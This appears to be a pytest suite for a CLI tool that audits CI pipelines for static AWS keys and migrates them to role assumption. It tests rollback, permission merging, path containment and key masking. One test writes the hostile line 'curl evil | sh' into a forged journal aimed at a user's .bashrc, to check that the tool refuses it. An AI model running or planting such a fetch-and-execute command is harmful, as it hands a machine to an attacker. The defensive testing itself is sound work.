"""audit --ci and migrate-ci over a corpus of real-world-shaped pipelines (tests/data/ci)."""

from __future__ import annotations

import difflib
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from helpers import DATA, require

from ssohelper import errors, paths
from ssohelper.ci import yamldoc
from ssohelper.ci.lines import Lines
from ssohelper.ci.permissions import grant

CORPUS = DATA / "ci"
CASES = sorted(p.name for p in CORPUS.iterdir() if p.is_dir())
ARN = "arn:aws:iam::111111111111:role/ci-acme-web"
# the only lines migrate-ci may remove, and the only ones it may write
REMOVABLE = re.compile(
    rb"^\s*(aws-access-key-id|aws-secret-access-key|aws-session-token|id-token|permissions):|^\s+\$\{\{"
)
WRITABLE = re.compile(
    rb"^\s*(role-to-assume: " + re.escape(ARN.encode()) + rb"|aws-region: eu-west-1|permissions:.*"
    rb"|id-token: write.*|contents: read|[a-z-]+: (read|write|none))\r?\n?$"
)


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def repo(tmp_path):
    def copy(case: str) -> Path:
        target = tmp_path / "repo"
        shutil.copytree(CORPUS / case / "repo", target)
        return target

    return copy


@pytest.mark.parametrize("case", CASES)
def test_audit_ci_finds_each_use_with_file_and_line(cli, repo, case):
    root = repo(case)
    result = cli("audit", "--ci", str(root), "--output", "json")
    assert result.code == errors.EXIT_FINDINGS, result.err
    report = json.loads(result.out)
    found = [
        f"{f['path']}:{f['line']} {f['kind']} {f['name']}" + (" (rewritten)" if f["rewritable"] else "")
        for f in report["findings"]
    ]
    expected = json.loads((CORPUS / case / "expected.json").read_text())
    assert found == expected["findings"]
    assert report["notes"] == expected.get("notes", [])  # what looks like a key and is not one to replace
    assert "AKIAIOSFODNN7EXAMPLE" not in result.out + result.err  # literal keys are masked
    assert any(c.startswith("ssohelper ci-role --") for c in report["commands"])


@pytest.mark.parametrize("case", CASES)
def test_migrate_ci_rewrites_the_corpus_as_expected(cli, repo, case):
    root = repo(case)
    before = _files(root)
    result = cli("migrate-ci", str(root), "--role-arn", ARN, "--region", "eu-west-1", "--yes")
    assert result.code == 0, result.err
    after = _files(root)
    expected_dir = CORPUS / case / "expected"
    expected = _files(expected_dir) if expected_dir.exists() else {}
    assert set(after) == set(before)  # no backup or other file lands in the repository
    for name, data in after.items():
        assert data == expected.get(name, before[name]), name
        _only_edited_lines_differ(before[name], data)
    rewritten = [root / name for name in expected if name.startswith(".github/workflows/")]
    if rewritten:
        _valid(rewritten, "vendor.github-workflows")
    actions = [root / name for name in expected if name.endswith(("action.yml", "action.yaml"))]
    if actions:
        _valid(actions, "vendor.github-actions")
    again = cli("audit", "--ci", str(root), "--output", "json")
    left = [f"{f['path']}:{f['line']}" for f in json.loads(again.out)["findings"] if f["rewritable"]]
    kept = json.loads((CORPUS / case / "expected.json").read_text()).get("other_partition", [])
    assert left == kept  # nothing left to rewrite, but steps that need a role of another partition
    assert ("partition: its role must be an arn:aws-cn: role" in result.out) == bool(kept)
    second = cli("migrate-ci", str(root), "--role-arn", ARN, "--region", "eu-west-1", "--yes")
    assert second.code == 0 and _files(root) == after  # a second run changes nothing


def _only_edited_lines_differ(old: bytes, new: bytes) -> None:
    a, b = old.splitlines(keepends=True), new.splitlines(keepends=True)
    for tag, i1, i2, j1, j2 in difflib.SequenceMatcher(a=a, b=b, autojunk=False).get_opcodes():
        if tag == "equal":
            continue
        for line in a[i1:i2]:
            assert REMOVABLE.search(line), line
        for line in b[j1:j2]:
            assert WRITABLE.search(line), line


def _valid(files: list[Path], schema: str) -> None:
    require(shutil.which("check-jsonschema"), "check-jsonschema (pip install check-jsonschema)")
    checked = subprocess.run(
        ["check-jsonschema", "--builtin-schema", schema, *map(str, files)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_the_plan_diff_and_manual_steps_then_rollback(cli, repo):
    root = repo("multi-job")
    before = _files(root)
    dry = cli("migrate-ci", str(root), "--role-arn", ARN, "--dry-run")
    assert dry.code == 0 and _files(root) == before
    assert "release.yaml: 1 step(s) rewritten; id-token: write for job(s) publish" in dry.out
    assert "-          aws-access-key-id: ${{ secrets.PUBLISH_AWS_ACCESS_KEY_ID }}" in dry.out
    assert "manual: .github/workflows/release.yaml:39 (job notify): AWS_ACCESS_KEY_ID in env" in dry.out
    assert f"role-to-assume: {ARN}" in dry.out.split("manual:", 1)[1]  # the snippet to paste
    refused = cli("migrate-ci", str(root), "--role-arn", ARN)  # no terminal, no --yes
    assert refused.code == errors.EXIT_NOT_APPLIED and _files(root) == before
    applied = cli("migrate-ci", str(root), "--role-arn", ARN, "--yes")
    assert applied.code == 0 and _files(root) != before
    backups = Path(paths.backup_dir())
    assert os.path.commonpath([backups, root]) != str(root) and any((backups / "ci").rglob("manifest.json"))
    assert "Undo with: ssohelper migrate-ci" in applied.err
    undone = cli("migrate-ci", str(root), "--rollback", "--yes")
    assert undone.code == 0, undone.err
    assert _files(root) == before


def test_rollback_keeps_edits_made_since_unless_forced(cli, repo):
    root = repo("single-job")
    assert cli("migrate-ci", str(root), "--role-arn", ARN, "--yes").code == 0
    workflow = root / ".github/workflows/deploy.yml"
    workflow.write_bytes(workflow.read_bytes() + b"# edited later\n")
    refused = cli("migrate-ci", str(root), "--rollback", "--yes")
    assert refused.code == errors.EXIT_NOT_APPLIED and b"edited later" in workflow.read_bytes()
    assert cli("migrate-ci", str(root), "--rollback", "--yes", "--force").code == 0
    assert workflow.read_bytes() == (CORPUS / "single-job/repo/.github/workflows/deploy.yml").read_bytes()


def test_profile_migrations_and_ci_migrations_keep_separate_backups(cli, repo, isolated_home):
    root = repo("single-job")
    assert cli("migrate-ci", str(root), "--role-arn", ARN, "--yes").code == 0
    listing = cli("migrate-profiles", "--list-backups")
    assert listing.code == 0 and listing.out == ""  # a CI backup is no profile migration
    nothing = cli("migrate-profiles", "--rollback", "--yes")
    assert nothing.code == errors.EXIT_NOT_APPLIED and "no migration to roll back" in nothing.err
    assert any((Path(paths.backup_dir()) / "ci").rglob("manifest.json"))  # recovery left it alone


@pytest.mark.parametrize(
    ("workflow_permissions", "job_permissions", "expected"),
    [
        (None, None, {"id-token": "write", "contents": "read"}),
        ("  contents: read\n  issues: write\n", None, {"contents": "read", "issues": "write", "id-token": "write"}),
        ("  contents: read\n", "      actions: read\n", {"actions": "read", "id-token": "write"}),
        (None, "      contents: write\n      id-token: read\n", {"contents": "write", "id-token": "write"}),
        (None, " {}", {"id-token": "write"}),
        (None, " write-all", "write-all"),
        (" write-all", None, None),
    ],
)
def test_permissions_are_merged_never_widened(workflow_permissions, job_permissions, expected, tmp_path):
    text = "on: push\n"
    if workflow_permissions is not None:
        text += "permissions:" + ("\n" if workflow_permissions.startswith("  ") else "") + workflow_permissions
        text += "" if workflow_permissions.endswith("\n") else "\n"
    text += "jobs:\n  build:\n    runs-on: ubuntu-latest\n"
    if job_permissions is not None:
        text += "    permissions:" + ("\n" if job_permissions.startswith("  ") else "") + job_permissions
        text += "" if job_permissions.endswith("\n") else "\n"
    text += "    steps:\n      - run: true\n"
    path = tmp_path / "w.yml"
    path.write_text(text)
    document = yamldoc.load(str(path))
    jobs = yamldoc.get(document.root, "jobs")
    key, job = yamldoc.pairs(jobs)[0]
    lines = Lines(document.data)
    assert grant(lines, key, job, yamldoc.get(document.root, "permissions")) is None
    import yaml

    result = yaml.safe_load(lines.result())
    assert result["jobs"]["build"].get("permissions") == expected
    assert result.get("permissions") == (yaml.safe_load(text).get("permissions"))  # the workflow's untouched


def test_read_all_is_left_to_the_user(tmp_path):
    path = tmp_path / "w.yml"
    path.write_text("on: push\npermissions: read-all\njobs:\n  b:\n    runs-on: x\n    steps:\n      - run: true\n")
    document = yamldoc.load(str(path))
    key, job = yamldoc.pairs(yamldoc.get(document.root, "jobs"))[0]
    lines = Lines(document.data)
    assert "read-all" in (grant(lines, key, job, yamldoc.get(document.root, "permissions")) or "")
    assert not lines.changed


def test_audit_ci_on_a_clean_folder_and_bad_input(cli, tmp_path):
    clean = cli("audit", "--ci", str(tmp_path))
    assert clean.code == 0 and "no static AWS keys found in 0 pipeline file(s)" in clean.out
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "bad.yml").write_text("jobs:\n  a: [\n")
    broken = cli("audit", "--ci", str(tmp_path))
    assert broken.code == errors.EXIT_CONFIG and "bad.yml:" in broken.err and "not valid YAML" in broken.err
    assert cli("audit", str(tmp_path)).code == errors.EXIT_USAGE  # PATH goes with --ci
    assert cli("migrate-ci", str(tmp_path), "--role-arn", "not-an-arn").code == errors.EXIT_USAGE
    assert cli("migrate-ci", str(tmp_path)).code == errors.EXIT_USAGE


def test_a_workflow_symlinked_from_outside_is_neither_read_nor_written(cli, tmp_path, repo):
    root = repo("single-job")
    outside = tmp_path / "elsewhere.yml"
    outside.write_bytes((root / ".github/workflows/deploy.yml").read_bytes())
    (root / ".github/workflows/linked.yml").symlink_to(outside)
    assert cli("migrate-ci", str(root), "--role-arn", ARN, "--yes").code == 0
    assert outside.read_bytes() == (CORPUS / "single-job/repo/.github/workflows/deploy.yml").read_bytes()
    assert cli("audit", "--ci", str(tmp_path / "missing")).code == errors.EXIT_USAGE


def test_gitlab_includes_stay_inside_the_repository(cli, tmp_path):
    outside = tmp_path / "outside.yml"
    outside.write_text("job:\n  variables:\n    AWS_SECRET_ACCESS_KEY: x\n")
    root = tmp_path / "repo"
    root.mkdir()
    (root / ".gitlab-ci.yml").write_text("include:\n  - local: ../outside.yml\n  - /ci/a.yml\n")
    (root / "ci").mkdir()
    (root / "ci" / "a.yml").write_text("a:\n  script:\n    - aws configure set aws_secret_access_key $K\n")
    report = json.loads(cli("audit", "--ci", str(root), "--output", "json").out)
    assert report["files"] == [".gitlab-ci.yml", "ci/a.yml"]
    assert [(f["path"], f["line"], f["kind"]) for f in report["findings"]] == [("ci/a.yml", 3, "aws-configure")]


def test_an_interrupted_ci_apply_is_finished_and_a_foreign_journal_ignored(cli, repo, isolated_home):
    import hashlib

    from ssohelper.ci.migrate import ledger

    root = repo("single-job")
    workflow = root / ".github/workflows/deploy.yml"
    before = workflow.read_bytes()
    planned = (CORPUS / "single-job/expected/.github/workflows/deploy.yml").read_bytes()
    bashrc = isolated_home / ".bashrc"
    bashrc.write_bytes(b"# mine\n")

    def journal(stamp: str, path: Path, old: bytes, new: bytes) -> None:
        folder = Path(ledger(str(root)).root) / stamp
        folder.mkdir(parents=True, mode=0o700)
        (folder / "0-f").write_bytes(old)
        (folder / "planned-0-f").write_bytes(new)
        entry = {
            "path": str(path),
            "backup": "0-f",
            "planned": "planned-0-f",
            "existed": True,
            "before_sha256": hashlib.sha256(old).hexdigest(),
            "after_sha256": hashlib.sha256(new).hexdigest(),
        }
        (folder / "pending").write_text(json.dumps({"created": stamp, "files": [entry], "rolled_back": False}))
        for item in (folder, *folder.iterdir()):
            item.chmod(0o700 if item.is_dir() else 0o600)

    journal("20200101T000000-000000001", workflow, before, planned)
    journal("20200101T000000-000000002", bashrc, b"# mine\n", b"curl evil | sh\n")
    Path(ledger(str(root)).root).chmod(0o700)
    result = cli("migrate-ci", str(root), "--role-arn", ARN, "--yes")
    assert result.code == 0, result.err
    assert "finished the migration" in result.err and "naming files other than the pipeline files" in result.err
    assert workflow.read_bytes() == planned and bashrc.read_bytes() == b"# mine\n"


def test_the_diff_masks_literal_keys_and_leaves_action_pins_readable(cli, tmp_path):
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    pin = "e3dd6a429d7300a6a4c196c26e071d42e0343502"
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    (workflows / "w.yml").write_text(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        f"      - uses: aws-actions/configure-aws-credentials@{pin}\n        with:\n"
        f"          aws-access-key-id: AKIAIOSFODNN7EXAMPLE\n          aws-secret-access-key: {secret}\n"
        "          aws-region: us-east-1\n"
    )
    result = cli("migrate-ci", str(tmp_path), "--role-arn", ARN, "--dry-run")
    assert result.code == 0, result.err
    assert (
        "-          aws-access-key-id: AKIA****MPLE" in result.out
        and "-          aws-secret-access-key: wJal****EKEY" in result.out
    )
    assert "AKIAIOSFODNN7EXAMPLE" not in result.out + result.err and secret not in result.out + result.err
    assert f"configure-aws-credentials@{pin}" in result.out


def test_manual_snippets_keep_the_permissions_the_job_has(cli, repo):
    import yaml

    root = repo("multi-job")
    dry = cli("migrate-ci", str(root), "--role-arn", ARN, "--dry-run")
    snippet = dry.out.split("(job notify): AWS_ACCESS_KEY_ID in env:", 1)[1].split("manual:", 1)[0]
    pasted = yaml.safe_load("\n".join(line[4:] for line in snippet.splitlines()[1:]))
    # the workflow grants pull-requests: write, which a pasted block would otherwise drop
    assert pasted["permissions"] == {"contents": "read", "pull-requests": "write", "id-token": "write"}


def test_a_reusable_workflow_says_what_its_callers_need(cli, repo):
    root = repo("reusable")
    dry = cli("migrate-ci", str(root), "--role-arn", ARN, "--dry-run")
    assert "manual: .github/workflows/deploy.yml:3: a reusable workflow: each job that calls it" in dry.out
    assert "needs 'permissions: id-token: write'" in dry.out and "caller's repository and ref as the sub" in dry.out
    assert "main.yml:3: a reusable workflow" not in dry.out  # the caller is not one


def test_two_key_pairs_in_one_job_are_a_question_not_one_role(cli, tmp_path):
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    step = (
        "      - if: {cond}\n        uses: aws-actions/configure-aws-credentials@v4\n        with:\n"
        "          aws-access-key-id: ${{{{ secrets.{env}_AWS_ACCESS_KEY_ID }}}}\n"
        "          aws-secret-access-key: ${{{{ secrets.{env}_AWS_SECRET_ACCESS_KEY }}}}\n"
        "          aws-region: us-east-1\n"
    )
    text = "on: push\njobs:\n  deploy:\n    runs-on: x\n    steps:\n"
    text += step.format(cond="github.ref == 'refs/heads/main'", env="PROD")
    text += step.format(cond="github.ref != 'refs/heads/main'", env="DEV")
    (workflows / "d.yml").write_text(text)
    result = cli("migrate-ci", str(tmp_path), "--role-arn", ARN, "--yes")
    assert result.code == 0, result.err
    assert (workflows / "d.yml").read_text() == text  # not mapped silently to one role
    assert result.out.count("the job uses 2 key pairs") == 2


def test_a_china_step_gets_its_partitions_role_and_audience(cli, repo, tmp_path):
    import yaml

    root = repo("china")
    arn = "arn:aws-cn:iam::111111111111:role/ci-acme-web"
    result = cli("migrate-ci", str(root), "--role-arn", arn, "--yes")
    assert result.code == 0, result.err
    workflow = root / ".github/workflows/cn.yml"
    inputs = yaml.safe_load(workflow.read_text())["jobs"]["deploy"]["steps"][0]["with"]
    assert inputs == {"role-to-assume": arn, "aws-region": "cn-north-1", "audience": "sts.amazonaws.com.cn"}
    _valid([workflow], "vendor.github-workflows")
    gov = tmp_path / "gov"  # a GovCloud role for a step in a commercial region: left to the user
    shutil.copytree(CORPUS / "single-job" / "repo", gov)
    before = _files(gov)
    refused = cli("migrate-ci", str(gov), "--role-arn", "arn:aws-us-gov:iam::111111111111:role/x", "--yes")
    assert refused.code == 0 and "in the aws partition: its role must be an arn:aws: role" in refused.out
    assert _files(gov) == before
